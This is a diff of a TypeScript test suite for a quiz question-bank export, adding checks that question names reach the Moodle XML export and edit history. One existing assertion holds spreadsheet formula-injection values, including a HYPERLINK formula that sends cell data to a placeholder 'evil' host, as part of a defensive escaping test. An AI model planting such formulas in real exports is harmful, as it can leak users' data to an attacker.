@@ -27,6 +27,7 @@ async function bank(h: Harness, withUrl: boolean) {
   return rows
     .map((r) => ({
       category: r.category_name,
+      name: r.name,
       text: r.question_text,
       options: r.options,
       explanation: r.explanation_text,
@@ -50,6 +51,7 @@ describe("question export", () => {
     });
     const expected = await bank(source, false);
     expect(expected).toHaveLength(4);
+    expect(expected.map((q) => q.name).sort()).toEqual(["Bell", "Chest pain at rest", "Thunderclap", "Wheeze"]);
     expect(expected.some((q) => q.image !== null)).toBe(true);
     expect(await bank(target, false)).toEqual(expected);
     expect(await importer.content.importFile({ file: file.bytes, file_name: file.name })).toMatchObject({
@@ -98,5 +100,44 @@ describe("question export", () => {
     expect(line).toBe(
       `"'=Formulas","'=HYPERLINK(""http://evil""&A1,""x"")","'+1+1","'-2+3","'@SUM(A1:A2)","'=1+2","'+A1",1,"'@explained",,,,`,
     );
+  });
+
+  it("writes each question's own name into the Moodle export: imported, typed in the form, else the stem's start", async () => {
+    const { api } = await signedIn(source, { level: 6 });
+    const { id: category } = await api.admin.categoryCreate({ name: "Named" });
+    const form = (text: string, name?: string) => ({
+      category,
+      text,
+      option_1: "Right",
+      option_2: "Two",
+      option_3: "Three",
+      option_4: "Four",
+      option_5: "Five",
+      solution: "Because.",
+      ...(name === undefined ? {} : { name }),
+    });
+    const typed = await api.admin.questionCreate(form("A stem typed in the form with a name", "  Typed name "));
+    expect(typed.name).toBe("Typed name");
+    await api.admin.questionCreate(
+      form("A stem typed in the form without any name, long enough to be cut at sixty characters"),
+    );
+    const renamed = await api.admin.questionCreate(form("A stem whose name is changed", "First name"));
+    expect((await api.admin.questionEdit({ ...form(renamed.text, "Second name"), id: renamed.id })).name).toBe(
+      "Second name",
+    );
+    // A client that sends no name keeps the stored one.
+    expect((await api.admin.questionEdit({ ...form(renamed.text), id: renamed.id, solution: "Edited." })).name).toBe(
+      "Second name",
+    );
+
+    const file = await api.content.exportFile({ format: "moodle-xml", category });
+    const names = [...file.bytes.toString("utf8").matchAll(/<name>\s*<text>([^<]*)<\/text>/g)].map((m) => m[1]);
+    expect(names.sort()).toEqual([
+      "A stem typed in the form without any name, long enough to be",
+      "Second name",
+      "Typed name",
+    ]);
+    const history = await api.content.history({ id: renamed.id });
+    expect(history.map((r) => r.changed)).toEqual([["explanation"], ["name"], ["created"]]);
   });
 });
